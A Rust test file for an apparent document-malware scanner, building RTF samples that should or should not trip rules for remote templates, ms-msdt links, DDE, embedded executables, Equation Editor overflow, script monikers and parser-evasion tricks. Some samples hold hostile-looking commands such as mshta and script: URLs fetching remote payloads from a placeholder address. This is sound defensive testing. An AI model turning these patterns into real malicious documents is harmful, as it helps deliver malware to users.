use crate::forge::{Case, Example, Specimen, case, fired, ole, pe};
use sheepdip::model::report::Verdict;

pub const SPECIMENS: &[Specimen] = &[("rtf", || br"{\rtf1\ansi Hello\par}".to_vec())];

fn document(body: &str) -> Case {
    case("a.rtf", format!("{{\\rtf1\\ansi{{\\fonttbl{{\\f0 Arial;}}}}{body}\\par}}").into_bytes())
}

/// An embedded object of a class: its OLE 1.0 header and data, in hexadecimal lines.
fn object(class: &str, data: &[u8], words: &str) -> Case {
    let mut bytes = vec![1, 5, 0, 0, 2, 0, 0, 0];
    bytes.extend((class.len() as u32 + 1).to_le_bytes());
    bytes.extend(class.as_bytes());
    bytes.extend([0; 9]);
    bytes.extend((data.len() as u32).to_le_bytes());
    bytes.extend(data);
    let hex: String =
        bytes.iter().enumerate().map(|(i, b)| format!("{b:02x}{}", if i % 32 == 31 { "\r\n" } else { "" })).collect();
    document(&format!("{{\\object\\objemb{words}{{\\*\\objdata {hex}}}}}"))
}

/// {06290BD3-48AA-11D2-8432-006008C3FBFC}, {79EAC9E0-BAF9-11CE-8C82-00AA004BA90B}, {00000300-0000-0000-C000-000000000046}
const SCRIPT_MONIKER: [u8; 16] = *b"\xD3\x0B\x29\x06\xAA\x48\xD2\x11\x84\x32\x00\x60\x08\xC3\xFB\xFC";
const URL_MONIKER: [u8; 16] = *b"\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B";
const OLE_LINK: [u8; 16] = *b"\x00\x03\x00\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46";

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).chain([0, 0]).collect()
}

/// A formula that begins with the name of a font.
fn formula(font: &[u8]) -> Vec<u8> {
    [b"\x1C\0\0\0\x02\0\x9E\xC4", &[0; 20][..], b"\x03\x01\x01\x03\x0A\x0A\x01\x08\x5A\x5A", font, &[b'x'; 60]].concat()
}

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "rtf.remote-template",
        fires: || document("{\\*\\template http://203.0.113.5/a.dotm}"),
        silent: || document("{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}"),
    },
    Example {
        rule: "rtf.handler-link",
        fires: || case("a.rtf", br#"{\rtf1{\field{\*\fldinst HYPERLINK "ms-msdt:/id nothing"}}}"#),
        silent: || case("a.rtf", br#"{\rtf1{\field{\*\fldinst HYPERLINK "https://example.com/"}}}"#),
    },
    Example {
        rule: "rtf.dde",
        fires: || document("{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\x.exe \"\"}}}"),
        silent: || document("{\\field{\\*\\fldinst {HYPERLINK \"https://example.com\"}}}"),
    },
    Example {
        rule: "rtf.program-inside",
        fires: || object("Package", &crate::forge::ole::package("a.exe", &pe::minimal())[4..], ""),
        silent: || object("Package", &crate::forge::ole::package("a.txt", b"some words\n")[4..], ""),
    },
    Example {
        rule: "rtf.equation",
        fires: || object("Equation.3", b"some words\n", ""),
        silent: || object("Excel.Chart.8", b"some words\n", ""),
    },
    Example {
        rule: "rtf.link-object",
        fires: || object("OLE2Link", b"some words\n", ""),
        silent: || object("Word.Picture.8", b"some words\n", ""),
    },
    Example {
        rule: "rtf.exploit",
        fires: || object("Equation.3", &formula(&[b'A'; 48]), ""),
        silent: || object("Equation.3", &formula(b"Times New Roman\0 and more of the formula behind it"), ""),
    },
    Example {
        rule: "rtf.code-object",
        fires: || {
            object("Word.Document.8", &[&SCRIPT_MONIKER[..], &wide("script:http://203.0.113.5/a.sct")].concat(), "")
        },
        silent: || object("Word.Document.8", &[&URL_MONIKER[..], &wide("https://example.com/")].concat(), ""),
    },
    Example {
        rule: "rtf.faulty-control",
        fires: || object("MSComctlLib.ListViewCtrl.2", b"some words\n", ""),
        silent: || object("Forms.CommandButton.1", b"some words\n", ""),
    },
    Example {
        rule: "rtf.updates-itself",
        fires: || object("Excel.Sheet.8", b"some words\n", "\\objupdate"),
        silent: || object("Excel.Sheet.8", b"some words\n", ""),
    },
];

#[test]
fn a_plain_document_is_clean_and_a_cut_one_is_not() {
    let whole = document("Hello").bytes;
    assert_eq!(case("a.rtf", whole.clone()).examine().judgement.verdict, Verdict::Clean);
    for length in 4..whole.len() {
        assert_ne!(case("a.rtf", &whole[..length]).examine().judgement.verdict, Verdict::Clean, "cut at {length}");
    }
}

#[test]
fn split_digits_and_nested_groups_do_not_hide_an_object() {
    let plain = object("OLE2Link", b"x", "");
    let text = String::from_utf8(plain.bytes).unwrap().replace("objdata 0105", "objdata 0{\\b 1}\r\n 0\\ulnone 5");
    let report = case("a.rtf", text.into_bytes()).examine();
    assert!(fired(&report).contains(&"rtf.link-object"), "{:?}", fired(&report));
}

#[test]
fn digits_in_an_unknown_destination_are_no_data_of_an_object() {
    let Case { name, bytes, .. } = object("Package", &ole::package("a.exe", &pe::minimal())[4..], "");
    let text = String::from_utf8_lossy(&bytes).replace("\r\n", "{\\*\\foo{\\b bad}}\r\n");
    assert!(fired(&case(&name, text.into_bytes()).examine()).contains(&"rtf.program-inside"));
}

#[test]
fn an_object_that_was_not_understood_is_never_clean() {
    assert_eq!(
        document("{\\object{\\*\\objdata 0105000{\\foo bad}002000000bada0102030405060708}}")
            .examine()
            .judgement
            .verdict,
        Verdict::Unexamined
    );
    assert_eq!(object("Package", b"\x01\x02 something else", "").examine().judgement.verdict, Verdict::Unexamined);
}

#[test]
fn classes_are_known_by_their_identity_under_any_name() {
    let link = [&OLE_LINK[..], b"\x01\0\0\x02", &URL_MONIKER, &wide("http://203.0.113.5/a.hta")].concat();
    let report = object("Whatever", &link, "").examine();
    let found = report.findings.iter().find(|f| f.rule.id == "rtf.link-object").expect("a link");
    assert!(found.proof().contains("http://203.0.113.5/a.hta"), "{}", found.proof());
    let equation = b"\x02\xCE\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46 some words";
    assert!(fired(&object("Whatever", equation, "").examine()).contains(&"rtf.equation"));
}

#[test]
fn a_formula_with_orders_in_it_is_an_attack() {
    let data = formula(b"Arial\0mshta http://203.0.113.5/a.hta and more words that fill it up");
    assert!(fired(&object("eQuAtIoN.3", &data, "").examine()).contains(&"rtf.exploit"));
}

#[test]
fn a_number_behind_hundreds_of_zeros_is_still_that_number() {
    let Case { bytes, .. } = object("Package", &ole::package("a.exe", &pe::minimal())[4..], "");
    let text =
        String::from_utf8_lossy(&bytes).replace("objdata 01", &format!("objdata \\bin{}1 \u{1}", "0".repeat(200)));
    assert!(fired(&case("a.rtf", text.into_bytes()).examine()).contains(&"rtf.program-inside"));
}

#[test]
fn digits_that_are_counted_from_another_one_are_understood() {
    let plain = object("OLE2Link", b"words", "");
    let text = String::from_utf8(plain.bytes).unwrap().replace("objdata 0105", "objdata 70105");
    let report = case("a.rtf", text.into_bytes()).examine();
    assert!(fired(&report).contains(&"rtf.link-object"), "{:?}", fired(&report));
}

#[test]
fn an_address_in_numbered_characters_is_read() {
    let address: String = "http://203.0.113.5/a".bytes().map(|b| format!("\\u{}?", i32::from(b) - 65536)).collect();
    assert!(fired(&document(&format!("{{\\*\\template {address}}}")).examine()).contains(&"rtf.remote-template"));
    let address: String = "http://203.0.113.5/a".bytes().map(|b| format!("\\u{b}")).collect();
    assert!(fired(&document(&format!("{{\\*\\template \\uc0 {address}}}")).examine()).contains(&"rtf.remote-template"));
}

#[test]
fn a_link_that_an_old_header_names_is_followed() {
    let mut bytes = vec![1, 5, 0, 0, 1, 0, 0, 0];
    for text in ["Excel.Sheet.8\0", "\\\\203.0.113.5\\a\\b.xls\0", "Sheet1\0"] {
        bytes.extend((text.len() as u32).to_le_bytes());
        bytes.extend(text.bytes());
    }
    bytes.extend([0; 16]);
    let hex: String = bytes.iter().map(|b| format!("{b:02X}")).collect();
    let report = document(&format!("{{\\object\\objautlink{{\\*\\objdata {hex}}}}}")).examine();
    assert!(fired(&report).contains(&"rtf.link-object"), "{:?}", fired(&report));
}

#[test]
fn a_list_of_fragments_that_runs_over_is_an_attack() {
    let shape =
        |digits: usize| document(&format!("{{\\shp{{\\sp{{\\sn pFragments}}{{\\sv 1;1;{}}}}}}}", "1".repeat(digits)));
    assert!(fired(&shape(500).examine()).contains(&"rtf.exploit"));
    assert!(!fired(&shape(20).examine()).contains(&"rtf.exploit"));
}

#[test]
fn broken_headers_are_documents_all_the_same() {
    for head in ["{\\rt", "{\\rtx", "{\\rtf", "{\\rtf1\\\u{1}", "\r\n {\\rtf1"] {
        let text = format!("{head}{{\\*\\template http://203.0.113.5/a.dotm}}}}");
        assert!(fired(&case("a.rtf", text.into_bytes()).examine()).contains(&"rtf.remote-template"), "{head}");
    }
}
